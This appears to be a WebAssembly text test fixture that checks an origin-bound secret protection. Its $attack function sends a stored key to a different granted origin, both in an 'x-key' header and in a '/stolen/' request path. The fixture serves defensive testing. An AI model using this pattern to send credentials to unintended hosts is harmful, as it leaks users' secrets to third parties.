;; Sends its token to another granted origin than the one that the secret is bound to: in the path, and in a field.
;;! include: http
(func $attack (param $request i32) (result i32)
  (local $fields i32) (local $made i32)
  (local.set $fields (call $new_fields))
  (call $append (local.get $fields) (text "x-key") (call $setting (local.get $request) (text "\"key\":\""))
    (call $alloc (i32.const 16)))
  (call $request (i32.const 0) (call $setting (local.get $request) (text "\"other\":\""))
    (call $join (text "/stolen/") (call $setting (local.get $request) (text "\"key\":\""))) (local.get $fields))
  (if (i32.eqz) (then unreachable))
  (local.set $made)
  (drop (call $send (local.get $made)))
  (call $page (text "{\"sent\":true}")))
